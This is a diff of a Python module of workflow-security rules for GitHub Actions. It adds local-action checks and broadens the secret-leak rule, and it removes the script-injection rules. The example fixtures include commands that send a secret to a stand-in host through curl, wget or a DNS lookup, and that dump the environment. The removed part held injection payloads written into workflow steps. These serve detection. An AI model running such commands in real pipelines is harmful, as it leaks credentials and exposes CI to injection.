@@ -1,7 +1,6 @@
 """WF: workflow files, judged on their text. A finding names the line and never quotes the file."""
 
 import re
-from abc import abstractmethod
 from collections.abc import Iterator
 
 from portcullis_policy.examples.base import Example
@@ -9,17 +8,27 @@ from portcullis_policy.examples.workflow_files import CI, SOUND_CI, SOUND_RELEAS
 from portcullis_policy.facts import UNKNOWN
 from portcullis_policy.mappings import cis, osps, scorecard, ssdf
 from portcullis_policy.rule import Finding, Resource, ResourceRule, finding
+from portcullis_policy.rules.workflows.judging import RunRule, WorkflowRule
 from portcullis_policy.semantics import github as gh
 from portcullis_policy.semantics.publishing.jobs import (
     piped_to_shell,
     prints_secret,
     uses_any_secret,
 )
+from portcullis_policy.semantics.publishing.leaks import leaks
 from portcullis_policy.semantics.workflow_files.checkouts import foreign_actions
-from portcullis_policy.semantics.workflow_files.files import at_lines, workflow_path
+from portcullis_policy.semantics.workflow_files.files import (
+    action_path,
+    workflow_path,
+)
 from portcullis_policy.semantics.workflow_files.pins import is_pinned
-from portcullis_policy.semantics.workflow_files.taint import foreign_text
-from portcullis_policy.semantics.workflow_files.workflows import At, Workflow, read
+from portcullis_policy.semantics.workflow_files.workflows import (
+    At,
+    UnreadableError,
+    Workflow,
+    compose,
+    read,
+)
 from portcullis_policy.settings import Settings
 from portcullis_policy.severity import Severity
 
@@ -32,11 +41,7 @@ _HEAD = re.compile(
 _FETCHES_HEAD = re.compile(r"\bgh\s+pr\s+(checkout|diff)\b|\bgit\s+.*\b(pull|refs/pull)/")
 
 
-_OUTPUT = """\
-      - id: first
-        env: {TITLE: "${{ github.event.issue.title }}"}
-        run: echo "t=$TITLE" >> "$GITHUB_OUTPUT"
-"""
+_ACTION = ".github/actions/say/action.yml"
 _CREDENTIALS = "          persist-credentials: false\n"
 _ELSEWHERE = f"""\
 {_CREDENTIALS}          repository: octo/tools
@@ -44,50 +49,40 @@ _ELSEWHERE = f"""\
           path: .tools
       - uses: ./.tools/setup
 """
-_PASTED = ("uv run pytest", "echo ${{ steps.first.outputs.t }}")
-_JOB = """\
-  first:
-    name: first
-    runs-on: ubuntu-24.04
-    outputs: {t: "${{ steps.first.outputs.t }}"}
-    steps:
-"""
 
 
-class WorkflowRule(ResourceRule, abstract=True):
-    """The base of the rules that judge one workflow file."""
-
-    resource_types = (gh.REPOSITORY_FILE,)
-
-    def findings(self, resource: Resource, settings: Settings) -> Iterator[Finding]:
-        """See Rule. A file that cannot be read is Readable's business."""
-        path, content = workflow_path(resource), resource.facts.text("content")
-        workflow = read(content) if path is not None and isinstance(content, str) else None
-        if workflow is not None and path is not None:
-            yield from at_lines(resource, path, self.lines(workflow, settings))
-
-    @abstractmethod
-    def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
-        """Yield the lines on which the rule does not hold, with what is wrong."""
+def _with_secret(note: str, command: str) -> Example:
+    """Return the CI workflow with a secret in TITLE, and another script."""
+    return ci(
+        note,
+        ("${{ github.event.pull_request.title }}", "${{ secrets.KEY }}"),
+        ('echo "$TITLE"', "true"),
+        ("uv run pytest", command),
+    )
 
 
 class Readable(ResourceRule):
-    """A workflow file is readable.
+    """Workflow files and the repository's own actions (`action.yml`) are readable.
 
     The pack cannot judge what it cannot read, and a duplicate key means one thing to one reader and
     another to GitHub. Such a file is refused, and so is a content or path that is unknown at
-    preview.
+    preview. A file is also unreadable if it is longer than 512 KiB or nested in more than 200
+    levels.
     """
 
     id = "WF001"
-    title = "a workflow file cannot be read"
+    title = "a workflow file or a local action cannot be read"
     severity = Severity.HIGH
     resource_types = (gh.REPOSITORY_FILE,)
-    remediation = "Fix the YAML: `on:` and `jobs:`, each key once; give the content as a literal."
+    remediation = (
+        "Fix the YAML: `on:` and `jobs:` (an action: `runs:`), each key once; "
+        "give the content as a literal."
+    )
     good = (
         SOUND_RELEASE,
         SOUND_CI,
         Example("another file", (file("jobs: [", "docs/example.yml"),)),
+        Example("a local action", (file("runs: {using: node24, main: a.js}", _ACTION),)),
     )
     bad = (
         Example("not YAML", (file("jobs: ["),)),
@@ -95,20 +90,34 @@ class Readable(ResourceRule):
         ci("a key that is written twice", ("jobs:", "permissions: write-all\njobs:")),
         Example("unknown at preview", (file(UNKNOWN),)),
         Example("a path not known at preview", (file(CI, UNKNOWN),)),
+        Example("a local action that is not YAML", (file("runs: [", _ACTION),)),
+        Example("a local action that runs nothing", (file("name: say\n", _ACTION),)),
+        Example("a local action unknown at preview", (file(UNKNOWN, _ACTION),)),
     )
 
     def findings(self, resource: Resource, settings: Settings) -> Iterator[Finding]:
         """See Rule."""
         del settings
-        path, content = workflow_path(resource), resource.facts.text("content")
+        workflow, content = workflow_path(resource), resource.facts.text("content")
+        path = workflow or action_path(resource)
         if resource.facts.text("file") is UNKNOWN:
             yield finding("its path cannot be seen, so it may be a workflow", value=UNKNOWN)
         if path is None:
             return
         if not isinstance(content, str):
             yield finding("its content cannot be seen", "files", path, value=UNKNOWN)
-        elif read(content) is None:
+        elif workflow is not None and read(content) is None:
             yield finding("it is no workflow, or a key is given twice", "files", path)
+        elif workflow is None and not _runs(content):
+            yield finding("it is no action, or a key is given twice", "files", path)
+
+
+def _runs(content: str) -> bool:
+    """Say whether an action can be read, and runs something."""
+    try:
+        return compose(content).get("runs").is_mapping
+    except UnreadableError:
+        return False
 
 
 class PermissionsAtTop(WorkflowRule):
@@ -172,7 +181,7 @@ class PermissionsAtTop(WorkflowRule):
                 yield (permissions.line, "`permissions: write-all`")
 
 
-class NoStrangersCode(WorkflowRule):
+class NoStrangersCode(RunRule):
     """A workflow that outsiders can start with secrets does not run their code.
 
     `pull_request_target`, `workflow_run` and `issue_comment` run with the repository's secrets and
@@ -213,9 +222,8 @@ class NoStrangersCode(WorkflowRule):
         ),
     )
 
-    def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
-        """See WorkflowRule."""
-        del settings
+    def lines(self, workflow: Workflow) -> Iterator[tuple[int, str]]:
+        """See RunRule."""
         if not set(workflow.triggers) & set(_OUTSIDERS_START):
             return
         for _, step in workflow.steps():
@@ -226,132 +234,6 @@ class NoStrangersCode(WorkflowRule):
             for line, text in step.run.lines():
                 if _FETCHES_HEAD.search(text):
                     yield (line, "the head of a pull request is fetched")
-
-
-class NoInjection(WorkflowRule):
-    """Text that others write is not inserted into scripts.
-
-    GitHub replaces an expression in `run` before the shell reads it, so a pull request whose title
-    is a command runs that command. A shell reads an environment variable as a value.
-
-    The text is followed through `env`, outputs of steps and jobs, files of variables and the
-    matrix, into scripts with their comments, `shell`, and inputs that an action runs.
-    """
-
-    id = "WF006"
-    title = "untrusted text is inserted into a script"
-    severity = Severity.HIGH
-    maps = (*scorecard("Dangerous-Workflow"), *osps("BR-01.01", "BR-01.04"))
-    remediation = 'Pass it through `env:` and write `"$NAME"` in the script.'
-    good = (
-        SOUND_CI,
-        ci(
-            "a pull request's number",
-            ("uv run pytest", "echo ${{ github.event.pull_request.number }}"),
-        ),
-        ci(
-            "a commit's hash",
-            ("uv run pytest", "git diff ${{ github.event.pull_request.base.sha }}"),
-        ),
-    )
-    bad = (
-        ci(
-            "a title in a script",
-            ("uv run pytest", "echo '${{ github.event.pull_request.title }}'"),
-        ),
-        ci(
-            "the text of an issue, written differently",
-            ("uv run pytest", "echo ${{ GITHUB['event']['issue']['body'] }}"),
-        ),
-        ci(
-            "a branch name in a script", ("uv run pytest", "git push origin ${{ github.head_ref }}")
-        ),
-        release(
-            "an input in a script",
-            ("run: uv build", "run: uv build --version ${{ inputs.confirm }}"),
-        ),
-        ci(
-            "through a variable that GitHub pastes",
-            ('echo "$TITLE"', "echo ${{ env.TITLE }}"),
-        ),
-        ci(
-            "in a script of github-script",
-            (
-                "run: |",
-                f"uses: actions/github-script@{'c3' * 20}\n        with:\n          script: |",
-            ),
-            ("  uv run pytest", "    log('${{ github.event.comment.body }}')"),
-            ('  echo "$TITLE"', "    log('')"),
-        ),
-        ci("through a variable", ("uv run pytest", "echo ${{ env.TITLE }}")),
-        ci("over two lines", ("uv run pytest", "echo ${{\n            github.head_ref }}")),
-        ci("in a comment of a script", ("uv run pytest", "# ${{ github.event.issue.body }}")),
-        ci("a shell", ("run: |", "shell: bash -c '${{ github.head_ref }}' {0}\n        run: |")),
-        ci("a variable that is evaluated", ("uv run pytest", 'eval "$TITLE"')),
-        ci("through an output of a step", ("      - env:", f"{_OUTPUT}      - env:"), _PASTED),
-        ci(
-            "through a file of variables",
-            ("      - env:", f"{_OUTPUT}      - env:".replace("GITHUB_OUTPUT", "GITHUB_ENV")),
-            ("uv run pytest", "echo ${{ env.t }}"),
-        ),
-        ci(
-            "through an output of a job",
-            ("jobs:\n", f"jobs:\n{_JOB}{_OUTPUT}"),
-            ("uv run pytest", "echo ${{ needs.first.outputs.t }}"),
-        ),
-    )
-
-    def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
-        """See WorkflowRule."""
-        del settings
-        found = foreign_text(workflow)
-        for line in found.pasted:
-            yield (line, "text that others can write is pasted into a script")
-        for line in found.evaluated:
-            yield (line, "a variable with text that others can write is run as a program")
-
-
-class NoForeignEnvironment(WorkflowRule):
-    """Outsiders' text is not written to GITHUB_ENV or GITHUB_PATH.
-
-    A line break in such a text sets any variable for all later steps, such as `LD_PRELOAD` or
-    `NODE_OPTIONS`, and a folder in the path replaces any program. This holds for every event that
-    outsiders start: issues, comments and discussions, too.
-    """
-
-    id = "WF027"
-    title = "outsiders' text is written to an environment file"
-    severity = Severity.HIGH
-    maps = (*scorecard("Dangerous-Workflow"), *osps("BR-01.01"))
-    remediation = "Pass the value through `env:` of the step that needs it."
-    good = (
-        SOUND_CI,
-        ci("a number", ("uv run pytest", 'echo "N=$GITHUB_RUN_ID" >> "$GITHUB_ENV"')),
-        ci(
-            "only some characters",
-            ("uv run pytest", 'echo "T=$(echo "$TITLE" | tr -cd \'a-z\')" >> "$GITHUB_ENV"'),
-        ),
-        ci("an output", ("uv run pytest", 'echo "T=$TITLE" >> "$GITHUB_OUTPUT"')),
-    )
-    bad = (
-        ci("a title", ("uv run pytest", 'echo "T=$TITLE" >> "$GITHUB_ENV"')),
-        ci("by another program", ("uv run pytest", 'echo "T=$TITLE" | tee -a "$GITHUB_ENV"')),
-        ci("a group", ("uv run pytest", '{ echo "T=$TITLE"; } >> $GITHUB_ENV')),
-        ci("by another variable", ("uv run pytest", 'x="$TITLE"; echo "T=$x" >> $GITHUB_ENV')),
-        ci("a folder", ("uv run pytest", 'echo "$TITLE" >> "${GITHUB_PATH}"')),
-        ci(
-            "on an issue",
-            ("[pull_request, push]", "issues"),
-            ("pull_request.title", "issue.body"),
-            ("uv run pytest", 'echo "T=$TITLE" >> "$GITHUB_ENV"'),
-        ),
-    )
-
-    def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
-        """See WorkflowRule."""
-        del settings
-        for line in foreign_text(workflow).kept:
-            yield (line, "outsiders' text sets variables or the path of later steps")
 
 
 class ActionsPinned(WorkflowRule):
@@ -366,6 +248,7 @@ class ActionsPinned(WorkflowRule):
 
     id = "WF007"
     title = "an action is not pinned to a whole commit hash"
+    of_actions = True
     severity = Severity.HIGH
     maps = (*scorecard("Pinned-Dependencies"), *cis("2.4.2"))
     remediation = "Write `owner/action@<40 digits> # v1.2.3`; Dependabot updates it."
@@ -488,6 +371,7 @@ class NothingPipedToShell(WorkflowRule):
 
     id = "WF011"
     title = "a workflow runs a script straight from the network"
+    of_actions = True
     severity = Severity.MEDIUM
     maps = (*scorecard("Pinned-Dependencies"), *cis("2.4.2"), *osps("BR-05.01"))
     remediation = "Use a pinned action, or download a version and check its hash before it runs."
@@ -519,14 +403,19 @@ class NothingPipedToShell(WorkflowRule):
 
 
 class NoSecretPrinted(WorkflowRule):
-    """No step prints a secret.
+    """No step prints a secret, keeps it in an artifact, or sends it away.
 
     GitHub masks a secret's exact value in logs, but nothing derived from it. Logs of public
-    repositories are public. All secrets at once (`toJSON(secrets)`) should never be printed.
+    repositories are public, and so are artifacts, in which GitHub masks nothing. All secrets at
+    once (`toJSON(secrets)`) should never be printed. The trace of a shell (`set -x`) prints the
+    values of variables. A request may carry a secret by which it logs in, in a header or in a field
+    for a token or a password; as any other part of the request, the secret is given away. An image
+    keeps its build arguments.
     """
 
     id = "WF016"
-    title = "a step prints a secret"
+    title = "a step prints a secret or gives it away"
+    of_actions = True
     severity = Severity.HIGH
     maps = (*scorecard("Dangerous-Workflow"), *cis("2.3.8"))
     remediation = "Remove the line, and replace the secret if it ever ran."
@@ -536,6 +425,19 @@ class NoSecretPrinted(WorkflowRule):
             "piped into a program",
             ("uv run pytest", 'echo "${{ secrets.T }}" | docker login --password-stdin'),
         ),
+        _with_secret("decoded into a file", 'echo "$TITLE" | base64 -d > key'),
+        _with_secret("for a program", 'echo "$TITLE" | base64 | gpg --import'),
+        _with_secret("without a trace", 'set -x; make; set +x\n          make KEY="$TITLE"'),
+        _with_secret("a login", 'curl -d "client_secret=$TITLE" https://x.example/oauth/token'),
+        _with_secret(
+            "a header", 'curl -d @x.json -H "Authorization: Bearer $TITLE" https://x.example'
+        ),
+        _with_secret(
+            "a file that is not kept",
+            'echo "$TITLE" > key\n'
+            f"      - uses: actions/upload-artifact@{'c3' * 20}\n        with: {{path: out}}",
+        ),
+        _with_secret("a variable for one program", "env COLOR=1 uv run pytest"),
         ci(
             "tests whether a secret is set",
             ("uv run pytest", "test -n '${{ secrets.T }}' && echo yes"),
@@ -548,6 +450,22 @@ class NoSecretPrinted(WorkflowRule):
             ("${{ github.event.pull_request.title }}", "${{ secrets.TOKEN }}"),
         ),
         ci("all secrets", ("uv run pytest", "./x '${{ toJSON(secrets) }}'")),
+        _with_secret("in another form", 'echo "$TITLE" | base64'),
+        _with_secret("as the input of a program", 'rev <<< "$TITLE"'),
+        _with_secret("with all variables", "env | sort"),
+        _with_secret("in the summary", 'echo "$TITLE" >> "$GITHUB_STEP_SUMMARY"'),
+        _with_secret("by the trace of a shell", 'set -x\n          make test KEY="$TITLE"'),
+        _with_secret("in a request", 'curl -d "$TITLE" https://x.example'),
+        _with_secret("in an address", 'wget "https://x.example/?k=$TITLE"'),
+        _with_secret("in a name", "nslookup $TITLE.x.example"),
+        _with_secret("in a comment", 'gh pr comment 1 --body "$TITLE"'),
+        _with_secret("in an image", 'docker build --build-arg "KEY=$TITLE" .'),
+        _with_secret(
+            "in an artifact",
+            'echo "$TITLE" > out/key\n'
+            f"      - uses: actions/upload-artifact@{'c3' * 20}\n        with: {{path: out}}",
+        ),
+        _with_secret("by a program", "python -c \"print(os.environ['TITLE'])\""),
     )
 
     def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
@@ -556,14 +474,14 @@ class NoSecretPrinted(WorkflowRule):
         for job, step in workflow.steps():
             for line in prints_secret(step, workflow.at.get("env"), job.at.get("env")):
                 yield (line, "a secret is printed")
+        for job in workflow.jobs:
+            yield from leaks(job, workflow)
 
 
 RULES = (
     Readable,
     PermissionsAtTop,
     NoStrangersCode,
-    NoInjection,
-    NoForeignEnvironment,
     ActionsPinned,
     SecretsNamed,
     NothingPipedToShell,
